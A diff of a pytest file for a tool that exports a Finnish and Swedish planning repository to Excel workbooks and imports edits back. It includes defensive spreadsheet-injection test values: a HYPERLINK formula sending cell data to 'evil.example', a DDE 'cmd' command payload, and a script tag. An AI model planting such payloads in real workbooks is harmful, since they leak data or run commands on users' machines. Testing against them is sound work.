@@ -13,7 +13,7 @@ from pathlib import Path
 
 import pytest
 import yaml
-from helpers import MINIMAL, REPO, copy_example, copy_root, run_cli
+from helpers import MINIMAL, REPO, copy_example, copy_root, resave_with_libreoffice, run_cli
 from openpyxl import load_workbook
 
 from cooperation.load.sources import load_sources
@@ -55,18 +55,20 @@ def repo(tmp_path) -> Path:
 
 
 def cells(book_path: Path, sheet: str) -> dict[tuple[str, str], str]:
-    """(id, heading or field) → cell coordinate, to edit a workbook the way a person would: by what a cell is."""
+    """(id, heading or field) → cell coordinate, to edit a workbook the way a person would: by what a cell is.
+    The data sheets (id, field, value) by field; the values sheet by (id, area) and heading."""
     book = load_workbook(book_path)
     rows = list(book[sheet].iter_rows())
     found = {}
-    if sheet in ("Työkirja", "Arbetsbok"):
+    if sheet in ("Kaikki tiedot", "Alla uppgifter"):
+        for row in rows[1:]:
+            found[(row[0].value, row[1].value)] = row[2].coordinate
+    else:
         heads = [c.value for c in rows[0]]
         for row in rows[1:]:
             for head, cell in zip(heads, row):
-                found[(row[0].value, head)] = cell.coordinate
-    else:
-        for row in rows[1:]:
-            found[(row[0].value, row[1].value)] = row[2].coordinate
+                key = (row[0].value, row[2].value) if sheet in ("Mittaustulokset", "Mätvärden") else row[0].value
+                found[(key, head)] = cell.coordinate
     return found
 
 
@@ -103,30 +105,33 @@ def test_export_then_import_into_an_empty_root_gives_the_same_fingerprint(tmp_pa
 
 def test_the_swedish_workbook_has_swedish_sheets_and_headings(tmp_path):
     book = load_workbook(export(REPO, tmp_path / "out", lang="sv"))
-    assert book.sheetnames[:2] == ["Arbetsbok", "Alla uppgifter"]
-    assert [c.value for c in book["Arbetsbok"][1]] == ["Identifierare", "Nivå", "Text (på finska)", "Text (på svenska)",
-                                                      "Ansvariga", "Kommentarer", "Kommenterande part"]
+    assert book.sheetnames[:4] == ["Arbetsbok", "Alla uppgifter", "Mätvärden", "Parter"]
+    assert [c.value for c in book["Arbetsbok"][1]] == [
+        "Identifierare", "Nivå", "Delområde", "Mål", "Åtgärd", "Ansvariga parter", "Huvudansvarig", "Tidsplan", "Status",
+        "Motivering för status", "Resurser", "Indikator", "Utgångsnivå", "Målnivå", "Text (på finska)", "Kommentarer",
+        "Kommenterande part"]
     assert book["Arbetsbok"]["B2"].value == "Delområde"
     explained = {(row[1], row[3]) for row in book["Alla uppgifter"].iter_rows(min_row=2, values_only=True)}
-    assert ("baseline.value", "Utgångsnivå: Värde") in explained
     assert ("legal_references.0.law.sv", "Hänvisningar till författningar: Författning (på svenska)") in explained
     finnish = load_workbook(export(REPO, tmp_path / "out-fi"))
-    assert finnish.sheetnames[:2] == ["Työkirja", "Kaikki tiedot"]
-    assert finnish["Työkirja"]["A1"].value == "Tunniste" and finnish["Työkirja"]["F1"].value == "Kommentit"
-    assert finnish["_source"].sheet_state == "hidden"
+    assert finnish.sheetnames[:4] == ["Työkirja", "Kaikki tiedot", "Mittaustulokset", "Osapuolet"]
+    assert finnish["Työkirja"]["A1"].value == "Tunniste" and finnish["Työkirja"]["P1"].value == "Kommentit"
+    assert finnish["_source"].sheet_state == "hidden" and finnish["_lists"].sheet_state == "hidden"
 
 
 # --- 2. merge into the repository ---------------------------------------------------------------------------
-def test_export_then_import_changes_nothing(repo, tmp_path):
-    book = export(repo, tmp_path / "out")
+@pytest.mark.parametrize("lang", ["fi", "sv"])
+def test_export_then_import_changes_nothing(repo, tmp_path, lang):
+    book = export(repo, tmp_path / "out", lang=lang)
     done = import_(book, repo)
     assert done.returncode == 0, done.stderr
+    assert "ei ole muutoksia" in done.stderr
     assert git(repo, "status", "--porcelain") == ""
 
 
 def test_one_edited_cell_is_one_changed_line_and_comments_stay(repo, tmp_path):
     book = export(repo, tmp_path / "out")
-    main, data = cells(book, "Työkirja"), cells(book, "Kaikki tiedot")
+    main = cells(book, "Työkirja")
     edited = edit(book, tmp_path / "edited.xlsx", {
         ("Työkirja", main[("HYTE-1", "Teksti (ruotsiksi)")]): "Allt fler vuxna motionerar varje dag.",
     })
@@ -136,7 +141,7 @@ def test_one_edited_cell_is_one_changed_line_and_comments_stay(repo, tmp_path):
     assert [line for line in diff if line[:1] in "+-" and line[:3] not in ("+++", "---")] == [
         "-      sv: Allt fler vuxna motionerar på fritiden.", "+      sv: Allt fler vuxna motionerar varje dag."]
     git(repo, "checkout", "-q", ".")
-    edited = edit(book, tmp_path / "edited2.xlsx", {("Kaikki tiedot", data[("HYTE-1-M1", "target.value")]): "15.5"})
+    edited = edit(book, tmp_path / "edited2.xlsx", {("Työkirja", main[("HYTE-1-M1", "Tavoitetaso")]): "15,5 (2028)"})
     assert import_(edited, repo).returncode == 0
     changed = [line for line in git(repo, "diff", "-U0").splitlines() if line[:1] in "+-" and line[:3] not in ("+++", "---")]
     assert changed == ["-        target: {year: 2028, value: 14.0}", "+        target: {year: 2028, value: 15.5}"]
@@ -151,7 +156,9 @@ def test_a_sorted_sheet_moves_nothing(repo, tmp_path):
     rows = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)]
     for number, values in enumerate(sorted(rows, key=lambda r: (r[1], r[0])), start=2):  # by level, as Excel sorts
         for column, value in enumerate(values, start=1):
-            sheet.cell(number, column, value).data_type = "s" if isinstance(value, str) else "n"
+            cell = sheet.cell(number, column)
+            cell.value = value  # empty cells too (cell(…, value=None) would keep the old value)
+            cell.data_type = "s" if isinstance(value, str) else "n"
     assert sheet["B2"].value == "Mittari"
     book.save(tmp_path / "sorted.xlsx")
     done = import_(tmp_path / "sorted.xlsx", repo)
@@ -185,32 +192,42 @@ def test_a_stale_workbook_is_merged_three_ways(repo, tmp_path):
 def test_the_same_value_changed_on_both_sides_is_a_conflict_and_nothing_is_written(repo, tmp_path):
     book = export(repo, tmp_path / "out")
     _commit_change(repo, "target: {year: 2028, value: 14.0}", "target: {year: 2028, value: 13.0}")
-    data = cells(book, "Kaikki tiedot")
-    coordinate = data[("HYTE-1-M1", "target.value")]
-    edited = edit(book, tmp_path / "edited.xlsx", {("Kaikki tiedot", coordinate): "15.5"})
+    coordinate = cells(book, "Työkirja")[("HYTE-1-M1", "Tavoitetaso")]
+    edited = edit(book, tmp_path / "edited.xlsx", {("Työkirja", coordinate): "15,5 (2028)"})
     head = git(repo, "rev-parse", "HEAD")
     done = import_(edited, repo)
     assert done.returncode == 1
-    assert f"edited.xlsx!'Kaikki tiedot'!{coordinate}: virhe: HYTE-1-M1 target.value: sekä työkirjassa että " \
+    assert f"edited.xlsx!{coordinate}: virhe: HYTE-1-M1 target.value: sekä työkirjassa että " \
            "repositoriossa on muutettu tätä kohtaa" in done.stderr
     assert "repositoriossa nyt ”13.0”, työkirjassa ”15.5”" in done.stderr
     assert "Mitään ei kirjoitettu." in done.stderr
     assert git(repo, "status", "--porcelain") == "" and git(repo, "rev-parse", "HEAD") == head
-    assert ("workbook_conflict", f"'Kaikki tiedot'!{coordinate}") in _codes(_import_json(edited, repo))
+    assert ("workbook_conflict", coordinate) in _codes(_import_json(edited, repo))
 
 
 # --- 4. the comments round ----------------------------------------------------------------------------------
-def test_a_partys_copy_highlights_its_rows_and_its_comments_are_collected_not_imported(repo, tmp_path):
+def test_a_partys_copy_has_its_rows_and_its_comments_are_collected_not_imported(repo, tmp_path):
+    from cooperation.pipeline import load
+    model, _ = load(repo)
     done = run_cli("export-xlsx", "--root", repo, "--out", tmp_path / "out", "--party", "kuusiniemi")
     assert done.returncode == 0, done.stderr
     book_path = next((tmp_path / "out").glob("*-tyokirja-kuusiniemi.xlsx"))
     book = load_workbook(book_path)
     sheet = book["Työkirja"]
     rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
+    own = {a.id for a in model.actions if "kuusiniemi" in a.responsible or a.lead == "kuusiniemi"}
+    others = {a.id for a in model.actions} - own
+    assert own and others  # the example has both
+    assert {a.id for a in model.actions} & set(rows) == own  # filtered to its rows; every sub-area and goal stays
+    assert {g.id for g in model.goals} <= set(rows) and {s.id for s in model.subareas} <= set(rows)
     assert rows["ELI-2-T1"][0].fill.fgColor.rgb.endswith("FFF2CC")  # kuusiniemi is responsible
     assert rows["ELI-1-T1"][0].fill.fgColor.rgb.endswith("FFF2CC")  # all municipalities
     assert rows["ELI-1"][0].fill.fill_type is None  # a goal concerns no party by itself
-    assert all(row[6].value == "kuusiniemi" for row in rows.values())
+    assert all(row[16].value == "kuusiniemi" for row in rows.values())
+    areas = {r[2] for r in book["Mittaustulokset"].iter_rows(min_row=2, values_only=True)}
+    assert areas == {model.party("kuusiniemi").name.get("fi")}
+    assert import_(book_path, repo).returncode == 0
+    assert git(repo, "status", "--porcelain") == ""  # the rows left out are kept as they are
     main = cells(book_path, "Työkirja")
     edited = edit(book_path, tmp_path / "kuusiniemi.xlsx", {
         ("Työkirja", main[("ELI-2-T1", "Kommentit")]): "Aikataulu on liian tiukka <script>x</script> **nyt**",
@@ -265,7 +282,7 @@ def test_bad_workbooks_are_refused_with_their_cell(repo, tmp_path):
                                                                        "ELI-2-T9"})
     data = cells(book, "Kaikki tiedot")
     cases["workbook_unknown_id (data)"] = edit(book, tmp_path / "dataid.xlsx", {
-        ("Kaikki tiedot", data[("ELI-2-T1", "lead")].replace("C", "A")): "ELI-2-T7"})
+        ("Kaikki tiedot", data[("ELI-2-M1", "unit")].replace("C", "A")): "ELI-2-T7"})
     # two rows with the same id
     cases["workbook_duplicate_id"] = edit(book, tmp_path / "twice.xlsx", {("Työkirja", main[("ELI-2-T1", "Tunniste")]):
                                                                             "ELI-1-T1"})
@@ -275,15 +292,15 @@ def test_bad_workbooks_are_refused_with_their_cell(repo, tmp_path):
     cases["workbook_level_changed"] = edit(book, tmp_path / "level2.xlsx", {("Työkirja", main[("ELI-2-T1", "Taso")]):
                                                                               "Mittari"})
     # a cell longer than Excel's cell holds (openpyxl cuts a text it is given there, so the file's XML is edited)
-    marked = edit(book, tmp_path / "marked.xlsx", {("Työkirja", main[("ELI-2-T1", "Teksti (suomeksi)")]): "MERKKI"})
+    marked = edit(book, tmp_path / "marked.xlsx", {("Työkirja", main[("ELI-2-T1", "Toimenpide")]): "MERKKI"})
     with zipfile.ZipFile(marked) as source, zipfile.ZipFile(tmp_path / "long.xlsx", "w") as target:
         for info in source.infolist():
             target.writestr(info, source.read(info).replace(b"MERKKI", b"x" * 40_000))
     cases["workbook_cell_full"] = tmp_path / "long.xlsx"
     # a formula: never computed, never imported
     formula = load_workbook(book)
-    formula["Työkirja"][main[("ELI-2-T1", "Teksti (suomeksi)")]] = "=HYPERLINK(\"http://x\",\"y\")"
-    assert formula["Työkirja"][main[("ELI-2-T1", "Teksti (suomeksi)")]].data_type == "f"
+    formula["Työkirja"][main[("ELI-2-T1", "Toimenpide")]] = "=HYPERLINK(\"http://x\",\"y\")"
+    assert formula["Työkirja"][main[("ELI-2-T1", "Toimenpide")]].data_type == "f"
     formula.save(tmp_path / "formula.xlsx")
     cases["workbook_formula"] = tmp_path / "formula.xlsx"
     # the id column deleted
@@ -314,12 +331,12 @@ def test_bad_workbooks_are_refused_with_their_cell(repo, tmp_path):
         "workbook_duplicate_id": main[("ELI-2-T1", "Tunniste")],
         "workbook_unknown_level": main[("ELI-2-T1", "Taso")],
         "workbook_level_changed": main[("ELI-2-T1", "Tunniste")],
-        "workbook_cell_full": main[("ELI-2-T1", "Teksti (suomeksi)")],
-        "workbook_formula": main[("ELI-2-T1", "Teksti (suomeksi)")],
+        "workbook_cell_full": main[("ELI-2-T1", "Toimenpide")],
+        "workbook_formula": main[("ELI-2-T1", "Toimenpide")],
         "workbook_new_subarea_row": "A2",
         "workbook_row_without_parent": "A2",
     }
-    expected_cells["workbook_unknown_id (data)"] = "'Kaikki tiedot'!" + data[("ELI-2-T1", "lead")].replace("C", "A")
+    expected_cells["workbook_unknown_id (data)"] = "'Kaikki tiedot'!" + data[("ELI-2-M1", "unit")].replace("C", "A")
     for case, path in cases.items():
         code = case.split(" ")[0]
         done = _import_json(path, repo)
@@ -348,11 +365,6 @@ def test_a_stale_workbook_without_its_revision_is_refused(repo, tmp_path):
 # --- 5. a workbook saved again by LibreOffice ----------------------------------------------------------------
 def test_a_workbook_edited_and_saved_by_libreoffice_imports_the_same_way(repo, tmp_path):
     from openpyxl.styles import Alignment
-    soffice = shutil.which("soffice")
-    if soffice is None:
-        if os.environ.get("REQUIRE_LIBREOFFICE"):
-            pytest.fail("LibreOffice Calc is required here: apt-get install libreoffice-calc-nogui")
-        pytest.skip("LibreOffice (soffice) is not installed (apt-get install libreoffice-calc-nogui)")
     book_path = export(repo, tmp_path / "out")
     book = load_workbook(book_path)
     sheet = book["Työkirja"]
@@ -360,25 +372,20 @@ def test_a_workbook_edited_and_saved_by_libreoffice_imports_the_same_way(repo, t
     # a new action under ELI-3 (its id left empty), ELI-1-T2 deleted, one text changed
     sheet.insert_rows(rows["ELI-3-T1"] + 1)
     new = rows["ELI-3-T1"] + 1
-    sheet[f"B{new}"], sheet[f"C{new}"], sheet[f"D{new}"] = "Toimenpide", "Kyläkauppojen palvelupisteet", \
+    sheet[f"B{new}"], sheet[f"E{new}"], sheet[f"O{new}"] = "Toimenpide", "Kyläkauppojen palvelupisteet", \
         "Servicepunkter i bybutikerna"
-    sheet[f"E{new}"] = "ilvesvaara, rannikkoseudun-hva"
+    sheet[f"F{new}"] = "ilvesvaara, rannikkoseudun-hva"
     sheet.delete_rows(rows["ELI-1-T2"])
     rows = {row[0].value: row[0].row for row in sheet.iter_rows(min_row=2) if row[0].value}
-    sheet[f"C{rows['ELI-1']}"] = "Alueen nettomuutto kääntyy selvästi positiiviseksi."
+    sheet[f"D{rows['ELI-1']}"] = "Alueen nettomuutto kääntyy selvästi positiiviseksi."
     # what people do to a sheet: merged comment cells, wrapped text, wider columns
-    sheet.merge_cells(f"F{rows['HYTE-1']}:F{rows['HYTE-1'] + 1}")
-    sheet[f"F{rows['HYTE-1']}"] = "Yhteinen kommentti kahdelle riville"
-    sheet[f"C{rows['ELI-1']}"].alignment = Alignment(wrap_text=True)
-    sheet.column_dimensions["C"].width = 90
+    sheet.merge_cells(f"P{rows['HYTE-1']}:P{rows['HYTE-1'] + 1}")
+    sheet[f"P{rows['HYTE-1']}"] = "Yhteinen kommentti kahdelle riville"
+    sheet[f"D{rows['ELI-1']}"].alignment = Alignment(wrap_text=True)
+    sheet.column_dimensions["D"].width = 90
     book["Kaikki tiedot"].column_dimensions["C"].width = 120
     book.save(tmp_path / "edited.xlsx")
-    resaved = tmp_path / "resaved"
-    profile = (tmp_path / "lo-profile").as_uri()
-    done = subprocess.run([soffice, f"-env:UserInstallation={profile}", "--headless", "--convert-to", "xlsx",
-                           "--outdir", str(resaved), str(tmp_path / "edited.xlsx")], capture_output=True, timeout=180)
-    assert done.returncode == 0, done.stderr
-    saved = resaved / "edited.xlsx"
+    (saved,) = resave_with_libreoffice(tmp_path / "resaved", tmp_path / "edited.xlsx")
     assert load_workbook(saved)["Työkirja"].merged_cells.ranges  # LibreOffice kept the merge
     done = import_(saved, repo)
     assert done.returncode == 0, done.stderr
@@ -439,9 +446,9 @@ def test_changed_values_are_replaced_in_place_in_any_layout():
 
 # --- the big sheets' rows, written as XML by the export --------------------------------------------------------
 FORMULA_LIKE = {  # (id, heading or field) → a text a spreadsheet would take for a formula, and XML's own characters
-    ("HYTE-1", "Teksti (suomeksi)"): '=HYPERLINK("http://evil.example/?"&A1,"Avaa")',
-    ("HYTE-1-T1", "Teksti (suomeksi)"): "+1+cmd|' /C calc'!A0",
-    ("HYTE-1-M1", "Teksti (suomeksi)"): "-2+3 <b> & </b>",
+    ("HYTE-1", "Tavoite"): '=HYPERLINK("http://evil.example/?"&A1,"Avaa")',
+    ("HYTE-1-T1", "Toimenpide"): "+1+cmd|' /C calc'!A0",
+    ("HYTE-1-M1", "Mittari"): "-2+3 <b> & </b>",
     ("hyte", "description"): "@SUM(1,2)\n toinen rivi ",
 }
 
@@ -451,9 +458,9 @@ def test_texts_that_look_like_formulas_stay_texts_and_come_back_unchanged(tmp_pa
     hyte = root / "subareas" / "hyte.yaml"
     data = yaml.safe_load(hyte.read_text(encoding="utf-8"))
     data["description"] = FORMULA_LIKE[("hyte", "description")]
-    data["goals"][0]["title"] = FORMULA_LIKE[("HYTE-1", "Teksti (suomeksi)")]
-    data["goals"][0]["actions"][0]["title"] = FORMULA_LIKE[("HYTE-1-T1", "Teksti (suomeksi)")]
-    data["goals"][0]["indicators"][0]["name"] = FORMULA_LIKE[("HYTE-1-M1", "Teksti (suomeksi)")]
+    data["goals"][0]["title"] = FORMULA_LIKE[("HYTE-1", "Tavoite")]
+    data["goals"][0]["actions"][0]["title"] = FORMULA_LIKE[("HYTE-1-T1", "Toimenpide")]
+    data["goals"][0]["indicators"][0]["name"] = FORMULA_LIKE[("HYTE-1-M1", "Mittari")]
     hyte.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
     git(root, "init", "-q")
     git(root, "add", "-A")
@@ -468,7 +475,8 @@ def test_texts_that_look_like_formulas_stay_texts_and_come_back_unchanged(tmp_pa
         sheet = "Kaikki tiedot" if column == "description" else "Työkirja"
         cell = opened[sheet][places[(item, column)]]
         assert (cell.value, cell.data_type) == (text, "s"), (item, column)
-    assert opened["Työkirja"].auto_filter.ref == f"A1:F{opened['Työkirja'].max_row}"
+    assert opened["Työkirja"].auto_filter.ref == f"A1:{opened['Työkirja'].cell(1, opened['Työkirja'].max_column).column_letter}" \
+                                                 f"{opened['Työkirja'].max_row}"
     done = import_(book, root)
     assert done.returncode == 0, done.stderr
     assert git(root, "status", "--porcelain") == ""
